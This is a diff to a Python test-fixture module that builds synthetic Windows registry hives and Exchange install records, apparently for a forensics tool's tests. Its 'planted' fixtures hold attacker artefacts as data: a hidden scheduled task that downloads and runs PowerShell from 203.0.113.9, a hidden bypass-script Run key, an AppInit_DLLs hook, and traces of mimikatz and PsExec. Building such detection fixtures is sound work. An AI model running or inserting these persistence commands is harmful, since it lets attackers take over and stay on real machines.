@@ -104,10 +104,50 @@ def exchange_install(hb: HiveBuilder, ex: ExchangeInstall) -> None:
             hb.set_value(key, "Publisher", "Microsoft Corporation")
 
 
+# Supported CUs of March/April 2021: (RTM build, March SU revision, April SU revision); CU20/CU9 shipped
+# with the March fixes (ED2102-REFERENCE 3.6)
+EXCHANGE_CUS: dict[tuple[str, str], tuple[tuple[int, int, int, int], int, int]] = {
+    ("2013", "CU23"): ((15, 0, 1497, 2), 12, 15),
+    ("2016", "CU19"): ((15, 1, 2176, 2), 9, 12),
+    ("2016", "CU20"): ((15, 1, 2242, 4), 4, 8),
+    ("2019", "CU8"): ((15, 2, 792, 3), 10, 13),
+    ("2019", "CU9"): ((15, 2, 858, 5), 5, 10),
+}
+
+
+def exchange_at(product: str, cu: str, level: str) -> tuple[ExchangeInstall, tuple[int, int, int, int]]:
+    """An Exchange install at ``level`` (``vulnerable``, ``march`` or ``april``) and its ExSetup.exe version.
+
+    The registry keeps the CU's RTM build; the updates installed for the level are recorded as KBs, and
+    the returned version is what ExSetup.exe's version resource would say.
+    """
+    rtm, march, april = EXCHANGE_CUS[(product, cu)]
+    updates = {"vulnerable": (), "march": (KB_MARCH,), "april": (KB_MARCH, KB_APRIL)}[level]
+    if rtm[3] >= march and level != "april":  # CU shipped with the March fixes: no March SU to install
+        updates = ()
+    rev = {"vulnerable": rtm[3], "march": max(march, rtm[3]), "april": april}[level]
+    return ExchangeInstall(rtm, updates), (*rtm[:3], rev)
+
+
 STOCK_PROGRAMS = (
-    ("{F1B0FB3A-E0EA-47A6-9383-3650655403B0}", "Microsoft Visual C++ 2012 Redistributable (x64) - 11.0.61030", "11.0.61030.0", "Microsoft Corporation"),  # noqa: E501
-    ("{929FBD26-9020-399B-9A7A-751D61F0B942}", "Microsoft Visual C++ 2013 x64 Additional Runtime - 12.0.21005", "12.0.21005", "Microsoft Corporation"),  # noqa: E501
-    ("{9BE518E6-ECC6-35A9-88E4-87755C07200F}", "Microsoft Unified Communications Managed API 4.0, Runtime", "5.0.8308.0", "Microsoft Corporation"),  # noqa: E501
+    (
+        "{F1B0FB3A-E0EA-47A6-9383-3650655403B0}",
+        "Microsoft Visual C++ 2012 Redistributable (x64) - 11.0.61030",
+        "11.0.61030.0",
+        "Microsoft Corporation",
+    ),
+    (
+        "{929FBD26-9020-399B-9A7A-751D61F0B942}",
+        "Microsoft Visual C++ 2013 x64 Additional Runtime - 12.0.21005",
+        "12.0.21005",
+        "Microsoft Corporation",
+    ),
+    (
+        "{9BE518E6-ECC6-35A9-88E4-87755C07200F}",
+        "Microsoft Unified Communications Managed API 4.0, Runtime",
+        "5.0.8308.0",
+        "Microsoft Corporation",
+    ),
     ("{9BCA2118-F753-4A1E-BCF3-5A820729965C}", "IIS URL Rewrite Module 2", "7.2.1993", "Microsoft Corporation"),
     ("{5FC7EE61-A4A0-4FAB-9B3B-0D1A1EEB25E6}", "VMware Tools", "11.2.5.17337674", "VMware, Inc."),
 )
@@ -144,13 +184,25 @@ def software_hive(
     hb.set_value(cv + r"\Windows", "LoadAppInit_DLLs", 0)
     for exe in ("winword.exe", "excel.exe", "iexplore.exe"):
         hb.set_value(cv + rf"\Image File Execution Options\{exe}", "UseFilter", 0)
-    hb.set_value(r"Microsoft\Windows\CurrentVersion\Run", "VMware User Process",
-                 r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr')  # fmt: skip
-    hb.set_value(r"Microsoft\Windows\CurrentVersion\Run", "SecurityHealth",
-                 r"%windir%\system32\SecurityHealthSystray.exe", "REG_EXPAND_SZ")  # fmt: skip
+    hb.set_value(
+        r"Microsoft\Windows\CurrentVersion\Run",
+        "VMware User Process",
+        r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr',
+    )
+    hb.set_value(
+        r"Microsoft\Windows\CurrentVersion\Run",
+        "SecurityHealth",
+        r"%windir%\system32\SecurityHealthSystray.exe",
+        "REG_EXPAND_SZ",
+    )
     hb.add_key(r"Microsoft\Windows\CurrentVersion\RunOnce")
-    task("{6B1F8C22-4E8B-4D55-9B4C-1D2E3F405162}", r"\Microsoft\Windows\Defrag\ScheduledDefrag",
-         r"%windir%\system32\defrag.exe", "-c -h -o -$", hb)  # fmt: skip
+    task(
+        "{6B1F8C22-4E8B-4D55-9B4C-1D2E3F405162}",
+        r"\Microsoft\Windows\Defrag\ScheduledDefrag",
+        r"%windir%\system32\defrag.exe",
+        "-c -h -o -$",
+        hb,
+    )
     for code, name, version, publisher in programs:
         key = rf"Microsoft\Windows\CurrentVersion\Uninstall\{code}"
         hb.set_value(key, "DisplayName", name)
@@ -203,17 +255,29 @@ class Interface:
 
 
 DEFAULT_INTERFACES = (
-    Interface("{5B9E3D1A-7C2F-4E6B-9A1D-0F3C2B4A6E8D}", ["10.0.0.10"], ["255.255.255.0"], ["10.0.0.1"],
-              name_server="10.0.0.2,10.0.0.3", domain="corp.example"),  # fmt: skip
+    Interface(
+        "{5B9E3D1A-7C2F-4E6B-9A1D-0F3C2B4A6E8D}",
+        ["10.0.0.10"],
+        ["255.255.255.0"],
+        ["10.0.0.1"],
+        name_server="10.0.0.2,10.0.0.3",
+        domain="corp.example",
+    ),
     Interface("{A1C4E7F0-2B5D-4C8E-9F1A-3D6B8E0C2A4F}", dhcp_ip="192.168.50.23"),
 )
 STOCK_SERVICES = {
     "W32Time": (r"%SystemRoot%\system32\svchost.exe -k LocalService", 0x20),
-    "MSExchangeFrontEndTransport": (r'"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeFrontendTransport.exe"', 0x10),  # noqa: E501
+    "MSExchangeFrontEndTransport": (
+        r'"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeFrontendTransport.exe"',
+        0x10,
+    ),
     "W3SVC": (r"%systemroot%\system32\svchost.exe -k iissvcs", 0x20),
     "vmci": (r"\SystemRoot\System32\drivers\vmci.sys", 0x1),
     "Ucx01000": (r"\SystemRoot\System32\drivers\ucx01000.sys", 0x1),
-    "MSSQL$SQLEXPRESS": (r'"C:\Program Files\Microsoft SQL Server\MSSQL15.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS', 0x10),  # noqa: E501
+    "MSSQL$SQLEXPRESS": (
+        r'"C:\Program Files\Microsoft SQL Server\MSSQL15.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS',
+        0x10,
+    ),
     "CDPUserSvc_3a5f1": (r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup", 0xE0),
 }
 
@@ -327,8 +391,13 @@ class Account:
 
 
 STOCK_ACCOUNTS = (
-    Account("Administrator", 500, last_login=datetime(2021, 2, 1, 8, 0, tzinfo=UTC), logins=42,
-            comment="Built-in account for administering the computer/domain"),  # fmt: skip
+    Account(
+        "Administrator",
+        500,
+        last_login=datetime(2021, 2, 1, 8, 0, tzinfo=UTC),
+        logins=42,
+        comment="Built-in account for administering the computer/domain",
+    ),
     Account("Guest", 501, disabled=True, password_set=None, comment="Built-in account for guest access"),
     Account("DefaultAccount", 503, disabled=True, password_set=None),
 )
@@ -467,9 +536,13 @@ def planted_software(exchange: ExchangeInstall | None = None) -> HiveBuilder:
     hb.set_value(cv + r"\SilentProcessExit\lsass.exe", "ReportingMode", 2)
     hb.set_value(cv + r"\Windows", "AppInit_DLLs", r"C:\ProgramData\hook.dll")
     hb.set_value(cv + r"\Windows", "LoadAppInit_DLLs", 1)
-    task("{0D3B57D8-2E4F-4A1B-8C9D-7E6F5A4B3C2D}", r"\Microsoft\Windows\VSPerfMon\Updater",
-         r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-         r"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", hb)  # fmt: skip
+    task(
+        "{0D3B57D8-2E4F-4A1B-8C9D-7E6F5A4B3C2D}",
+        r"\Microsoft\Windows\VSPerfMon\Updater",
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+        hb,
+    )
     return hb
 
 
@@ -480,8 +553,13 @@ def planted_sam() -> HiveBuilder:
         Account("LocalAdm", 500, last_login=datetime(2021, 2, 1, 8, 0, tzinfo=UTC), logins=42),
         Account("Guest", 501, disabled=False, password_set=None),
         Account("DefaultAccount", 503, disabled=True, password_set=None),
-        Account("support", 1001, created=datetime(2021, 3, 3, 2, 31, tzinfo=UTC),
-                last_login=datetime(2021, 3, 3, 2, 35, tzinfo=UTC), logins=3),  # fmt: skip
+        Account(
+            "support",
+            1001,
+            created=datetime(2021, 3, 3, 2, 31, tzinfo=UTC),
+            last_login=datetime(2021, 3, 3, 2, 35, tzinfo=UTC),
+            logins=3,
+        ),
         Account("svc$", 1002, created=datetime(2020, 11, 2, 10, 0, tzinfo=UTC)),
     ]
     return sam_hive(accounts)
@@ -492,11 +570,15 @@ def planted_ntuser(user: str = "exadmin") -> HiveBuilder:
     PsExec."""
     return ntuser_hive(
         user,
-        run={"OneDrive": r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background",
-             "Updater": r"powershell.exe -w hidden -ep bypass -f C:\Users\Public\u.ps1"},  # fmt: skip
-        userassist=[(r"C:\Users\exadmin\Downloads\mimikatz_trunk\x64\mimikatz.exe", 2, T_ATTACK),
-                    (r"{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\notepad.exe", 9, T_INSTALL),
-                    (r"C:\Tools\PsExec64.exe", 1, T_ATTACK)],  # fmt: skip
+        run={
+            "OneDrive": r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background",
+            "Updater": r"powershell.exe -w hidden -ep bypass -f C:\Users\Public\u.ps1",
+        },
+        userassist=[
+            (r"C:\Users\exadmin\Downloads\mimikatz_trunk\x64\mimikatz.exe", 2, T_ATTACK),
+            (r"{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\notepad.exe", 9, T_INSTALL),
+            (r"C:\Tools\PsExec64.exe", 1, T_ATTACK),
+        ],
     )
 
 
@@ -532,8 +614,13 @@ def example_hive(hive_type: str, example: list[dict[str, Any]] | dict[str, Any])
     """
     items = example.get("items", []) if isinstance(example, dict) else example
     base = not (isinstance(example, dict) and example.get("base") == "empty")
-    baselines: dict[str, Any] = {"system": system_hive, "software": software_hive, "ntuser": ntuser_hive,
-                                 "amcache": amcache_hive, "sam": sam_hive}  # fmt: skip
+    baselines: dict[str, Any] = {
+        "system": system_hive,
+        "software": software_hive,
+        "ntuser": ntuser_hive,
+        "amcache": amcache_hive,
+        "sam": sam_hive,
+    }
     hb = baselines[hive_type]() if base and hive_type in baselines else HiveBuilder(file_name=FILE_NAMES[hive_type])
     shim: list[tuple[str, datetime]] = []
     accounts: list[Account] = []
@@ -550,13 +637,14 @@ def example_hive(hive_type: str, example: list[dict[str, Any]] | dict[str, Any])
                     hb.set_value(path, name, data)
         elif "task" in item:
             t = item["task"]
-            guid = "{%08X-0000-4000-8000-000000000000}" % zlib.crc32(t["path"].encode())
+            guid = f"{{{zlib.crc32(t['path'].encode()):08X}-0000-4000-8000-000000000000}}"
             task(guid, t["path"], t["command"], t.get("args", ""), hb)
         elif "account" in item:
             a = dict(item["account"])
             accounts.append(Account(a.pop("name"), int(a.pop("rid")), **a))
         elif "amcache" in item:
-            key = rf"Root\InventoryApplicationFile\example|{len(items):04x}{zlib.crc32(str(item['amcache']).encode()):08x}"
+            entry_id = f"{len(items):04x}{zlib.crc32(str(item['amcache']).encode()):08x}"
+            key = rf"Root\InventoryApplicationFile\example|{entry_id}"
             hb.add_key(key, timestamp=T_ATTACK)
             hb.set_value(key, "LowerCaseLongPath", str(item["amcache"]).lower())
         elif "shimcache" in item:
@@ -586,8 +674,9 @@ def dirty_pair(old: HiveBuilder, new: HiveBuilder) -> tuple[bytes, bytes]:
     """A dirty primary hive written from ``old`` and a ``.LOG1`` whose dirty pages turn it into ``new``.
 
     The log has a 512-byte base block and one HvLE entry (sequence number = the primary's secondary
-    sequence number) holding every 4 KiB page where the two hives differ. The entry's Marvin32 hashes
-    are left zero: Windows checks them, regipy does not. The primary is padded with zeros when ``new``
+    sequence number) holding every 4 KiB page where the two hives differ, laid out as the public format
+    description has it (header, page references, pages, padding to 512 bytes). The entry's Marvin32
+    hashes are left zero: Windows checks them, regipy does not. The primary is padded with zeros when ``new``
     has more hive bins, as the file would have been grown.
     """
     old_b, new_b = old.to_bytes(dirty=True), new.to_bytes()
@@ -601,14 +690,15 @@ def dirty_pair(old: HiveBuilder, new: HiveBuilder) -> tuple[bytes, bytes]:
         for off in range(0, len(new_bins), PAGE)
         if new_bins[off : off + PAGE] != old_bins[off : off + PAGE]
     ]
-    header_len = 40 + 8 * len(pages)
-    header_len += -header_len % 512
-    size = header_len + PAGE * len(pages)
-    entry = bytearray(header_len)
+    # header, page references, then the pages themselves; the entry is padded to a multiple of 512
+    body = 40 + 8 * len(pages) + PAGE * len(pages)
+    size = body + (-body % 512)
+    entry = bytearray(40 + 8 * len(pages))
     struct.pack_into("<4sIIIII", entry, 0, b"HvLE", size, 0, secondary_seq, len(new_bins), len(pages))
     for i, (off, data) in enumerate(pages):
         struct.pack_into("<II", entry, 40 + 8 * i, off, len(data))
     entry += b"".join(data for _, data in pages)
+    entry += bytes(size - len(entry))
     base = bytearray(old_b[:512])
     struct.pack_into("<II", base, 4, primary_seq, secondary_seq)
     struct.pack_into("<I", base, 28, 6)  # file type: transaction log (Windows 8.1+ format)
@@ -682,8 +772,32 @@ def exsetup_exe(version: tuple[int, int, int, int]) -> bytes:
     struct.pack_into("<4sHHIIIHH", headers, 0x40, b"PE\0\0", 0x8664, 1, 0x604B0A00, 0, 0, 0xF0, 0x22)
     opt = 0x58
     struct.pack_into("<HBBIIIII", headers, opt, 0x20B, 14, 0, 0, raw_size, 0, 0, rva)
-    struct.pack_into("<QIIHHHHHHIIIIHHQQQQII", headers, opt + 24, 0x140000000, 0x1000, 0x200, 6, 0, 15, 0, 6, 0,
-                     0, rva + 0x1000, 0x200, 0, 3, 0x8160, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)  # fmt: skip
+    struct.pack_into(
+        "<QIIHHHHHHIIIIHHQQQQII",
+        headers,
+        opt + 24,
+        0x140000000,
+        0x1000,
+        0x200,
+        6,
+        0,
+        15,
+        0,
+        6,
+        0,
+        0,
+        rva + 0x1000,
+        0x200,
+        0,
+        3,
+        0x8160,
+        0x100000,
+        0x1000,
+        0x100000,
+        0x1000,
+        0,
+        16,
+    )
     dirs = opt + 112
     struct.pack_into("<II", headers, dirs + 2 * 8, rva, len(rsrc))
     sect = opt + 0xF0
@@ -702,6 +816,7 @@ __all__ = [
     "bam_value",
     "dirty_pair",
     "example_hive",
+    "exchange_at",
     "exchange_install",
     "exsetup_exe",
     "ntuser_hive",
